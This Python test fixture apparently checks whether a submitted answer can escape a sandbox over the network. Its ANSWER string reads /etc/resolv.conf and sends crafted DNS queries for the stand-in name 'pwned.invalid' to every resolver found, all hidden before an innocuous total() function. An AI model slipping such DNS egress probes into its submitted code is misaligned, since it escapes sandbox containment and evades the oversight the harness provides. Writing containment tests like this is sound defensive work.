"""Network: answers are carried out by DNS, as names asked of every resolver."""

OUTCOME = "kept"

ANSWER = r"""
import re
import socket
from pathlib import Path


def say(family, kind, address, text):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1)
            line.connect(address)
            line.send(text)
    except OSError:
        return


resolvers = {"127.0.0.1", "127.0.0.53"}
try:
    resolvers.update(re.findall(r"nameserver\s+(\S+)", Path("/etc/resolv.conf").read_text()))
except OSError:
    pass
for host in resolvers:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    query = b"pwned 139\1\0\0\1\0\0\0\0\0\0\5pwned\7invalid\0\0\1\0\1"
    say(family, socket.SOCK_DGRAM, (host, 53), query)
reached = []
for host in ("pwned.invalid", "localhost.localdomain"):
    try:
        reached.append(socket.getaddrinfo(host, 80))
    except OSError:
        continue


def total(values):
    return float(np.sum(values))
"""
